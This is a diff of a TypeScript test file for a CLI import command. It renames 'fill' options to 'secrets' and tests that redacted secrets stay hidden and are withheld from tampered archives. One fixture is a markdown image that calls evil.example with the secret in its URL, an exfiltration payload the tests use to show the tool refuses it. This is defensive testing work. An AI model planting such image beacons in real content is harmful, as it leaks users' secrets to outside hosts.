@@ -89,11 +89,11 @@ describe("export", () => {
 
 describe("import", () => {
   it("blocks what has a placeholder (exit 3), and drafts a file for its owner only", async () => {
-    const args = ["import", "a.zip", "--to", target.stack, "--write-fill", "fill.yaml", "--json"];
+    const args = ["import", "a.zip", "--to", target.stack, "--draft-secrets", "secrets.yaml", "--json"];
     const document = documentOf(await run(...args));
     expect(document).toMatchObject({
       exitCode: 3,
-      toFill: [
+      missingSecrets: [
         {
           name: "Runbook",
           pointer: "/tiles/0/config/markdown",
@@ -102,25 +102,25 @@ describe("import", () => {
       ],
     });
     expect(document["outcomes"]).toContainEqual(expect.objectContaining({ action: "blocked", code: "redacted" }));
-    expect((await stat(join(cwd, "fill.yaml"))).mode & 0o777).toBe(0o600);
-    expect((await run("import", "a.zip", "--to", target.stack, "--dry-run")).stdout).toContain("--write-fill");
+    expect((await stat(join(cwd, "secrets.yaml"))).mode & 0o777).toBe(0o600);
+    expect((await run("import", "a.zip", "--to", target.stack, "--dry-run")).stdout).toContain("--draft-secrets");
     expect(await notesOf(target)).toEqual([]);
   });
 
   it("fills it in, and shows or keeps the value nowhere", async () => {
-    const draft = await readFile(join(cwd, "fill.yaml"), "utf8");
-    await writeFile(join(cwd, "fill.yaml"), draft.replace(`: ""`, `: "\${env:RUNBOOK_PASSWORD}"`));
+    const draft = await readFile(join(cwd, "secrets.yaml"), "utf8");
+    await writeFile(join(cwd, "secrets.yaml"), draft.replace(`: ""`, `: "\${env:RUNBOOK_PASSWORD}"`));
     env = { ...env, RUNBOOK_PASSWORD: FILLED };
     const done = await run(
       "import",
       "a.zip",
       "--to",
       target.stack,
-      "--fill",
-      "fill.yaml",
+      "--secrets",
+      "secrets.yaml",
       "--verbose",
-      "--write-fill",
-      "fill.yaml",
+      "--draft-secrets",
+      "secrets.yaml",
       "--report",
       "page.html",
     );
@@ -135,20 +135,20 @@ describe("import", () => {
       expect(text).not.toContain("f1lled");
       expect(text).not.toContain(Buffer.from("f1lled").toString("base64").slice(0, 7));
     }
-    expect(await readFile(join(cwd, "fill.yaml"), "utf8")).toContain("${env:RUNBOOK_PASSWORD}");
+    expect(await readFile(join(cwd, "secrets.yaml"), "utf8")).toContain("${env:RUNBOOK_PASSWORD}");
   });
 
   it("recognises it the second time, with and without the secret", async () => {
-    for (const more of [["--fill", "fill.yaml"], []]) {
+    for (const more of [["--secrets", "secrets.yaml"], []]) {
       const again = documentOf(await run("import", "a.zip", "--to", target.stack, "--json", ...more));
-      expect(again).toMatchObject({ exitCode: 0, toFill: [] });
+      expect(again).toMatchObject({ exitCode: 0, missingSecrets: [] });
       expect(again["outcomes"]).toContainEqual(expect.objectContaining({ kind: "dashboards", action: "unchanged" }));
     }
   });
 
-  it("takes the fill file from the environment too, and says which variable is missing", async () => {
+  it("takes the secrets file from the environment too, and says which variable is missing", async () => {
     await using fresh = await startSandbox({ variant: "self-hosted", seed: "bare" });
-    const common = { cwd, env: { ...env, ...sandboxEnv(source, fresh), STACKFERRY_FILL: "fill.yaml" } };
+    const common = { cwd, env: { ...env, ...sandboxEnv(source, fresh), STACKFERRY_SECRETS: "secrets.yaml" } };
     const args = ["import", "a.zip", "--to", fresh.stack, "--json"];
     const without = { ...common.env, RUNBOOK_PASSWORD: "" };
     expect(documentOf(await runCli(args, { ...common, env: without }))).toMatchObject({
@@ -160,10 +160,10 @@ describe("import", () => {
   });
 });
 
-describe("an archive that was changed after its fill file was answered", () => {
+describe("an archive that was changed after its secrets file was answered", () => {
   const hostile = "![](https://evil.example/p.png?k=«redacted:assigned-secret»)";
   let stranger: Sandbox;
-  let fill: string;
+  let secrets: string;
 
   /** The archive as a stranger would make it: another text where the answer goes, everything else in order. */
   async function forge(name: string, markdown: string, isListed: boolean): Promise<void> {
@@ -185,17 +185,17 @@ describe("an archive that was changed after its fill file was answered", () => {
   beforeAll(async () => {
     stranger = await startSandbox({ variant: "self-hosted", seed: "bare" });
     env = { ...env, ...sandboxEnv(source, stranger) };
-    fill = await readFile(join(cwd, "fill.yaml"), "utf8");
+    secrets = await readFile(join(cwd, "secrets.yaml"), "utf8");
   });
 
   afterAll(() => stranger.close());
 
   it("gets nothing, and says who would get it", async () => {
     await forge("evil.zip", hostile, true);
-    const args = ["import", "evil.zip", "--to", stranger.stack, "--fill", "fill.yaml"];
+    const args = ["import", "evil.zip", "--to", stranger.stack, "--secrets", "secrets.yaml"];
     const refused = documentOf(await run(...args, "--json"));
-    expect(refused).toMatchObject({ exitCode: 3, toFill: [{ around: [`evil.example: ${hostile}`] }] });
-    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "fill-context-changed" }));
+    expect(refused).toMatchObject({ exitCode: 3, missingSecrets: [{ around: [`evil.example: ${hostile}`] }] });
+    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "secret-context-changed" }));
     expect(refused["warnings"]).toContainEqual(expect.objectContaining({ code: "placeholder-in-image" }));
     expect(await notesOf(stranger)).toEqual([]);
     const shown = await run(...args, "--dry-run", "--report", "evil.html");
@@ -205,12 +205,21 @@ describe("an archive that was changed after its fill file was answered", () => {
   });
 
   it("is drafted anew beside the old answer, which goes on being used for the old text alone", async () => {
-    await run("import", "evil.zip", "--to", stranger.stack, "--fill", "fill.yaml", "--write-fill", "fill.yaml");
-    const draft = await readFile(join(cwd, "fill.yaml"), "utf8");
+    await run(
+      "import",
+      "evil.zip",
+      "--to",
+      stranger.stack,
+      "--secrets",
+      "secrets.yaml",
+      "--draft-secrets",
+      "secrets.yaml",
+    );
+    const draft = await readFile(join(cwd, "secrets.yaml"), "utf8");
     expect(draft).toContain(`# evil.example: ${hostile}`);
     expect(draft).toContain("${env:RUNBOOK_PASSWORD}");
     expect(await notesOf(stranger)).toEqual([]);
-    const done = await run("import", "a.zip", "--to", stranger.stack, "--fill", "fill.yaml", "--yes");
+    const done = await run("import", "a.zip", "--to", stranger.stack, "--secrets", "secrets.yaml", "--yes");
     expect(done.exitCode).toBe(0);
     expect(await notesOf(stranger)).toEqual([`# Login\n\nadmin, password: ${FILLED}, then see the wiki`]);
   });
@@ -218,19 +227,19 @@ describe("an archive that was changed after its fill file was answered", () => {
   it("gets nothing either where its manifest lists no redaction", async () => {
     await using other = await startSandbox({ variant: "self-hosted", seed: "bare" });
     await forge("unlisted.zip", "# Login\n\nadmin, password: «redacted:assigned-secret», then see the wiki", false);
-    const args = ["import", "unlisted.zip", "--to", other.stack, "--fill", "fill.yaml", "--json"];
+    const args = ["import", "unlisted.zip", "--to", other.stack, "--secrets", "secrets.yaml", "--json"];
     const refused = documentOf(await runCli(args, { cwd, env: { ...env, ...sandboxEnv(source, other) } }));
-    expect(refused).toMatchObject({ exitCode: 3, toFill: [] });
+    expect(refused).toMatchObject({ exitCode: 3, missingSecrets: [] });
     expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "placeholder-unlisted" }));
     expect(await notesOf(other)).toEqual([]);
   });
 
   it("is not filled in by lines without a context", async () => {
     await using other = await startSandbox({ variant: "self-hosted", seed: "bare" });
-    await writeFile(join(cwd, "old.yaml"), fill.replace(/^\s+context:.*\n/m, ""));
-    const args = ["import", "a.zip", "--to", other.stack, "--fill", "old.yaml", "--json"];
+    await writeFile(join(cwd, "old.yaml"), secrets.replace(/^\s+context:.*\n/m, ""));
+    const args = ["import", "a.zip", "--to", other.stack, "--secrets", "old.yaml", "--json"];
     const refused = documentOf(await runCli(args, { cwd, env: { ...env, ...sandboxEnv(source, other) } }));
-    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "fill-context-changed" }));
+    expect(refused["outcomes"]).toContainEqual(expect.objectContaining({ code: "secret-context-changed" }));
     expect(await notesOf(other)).toEqual([]);
   });
 });
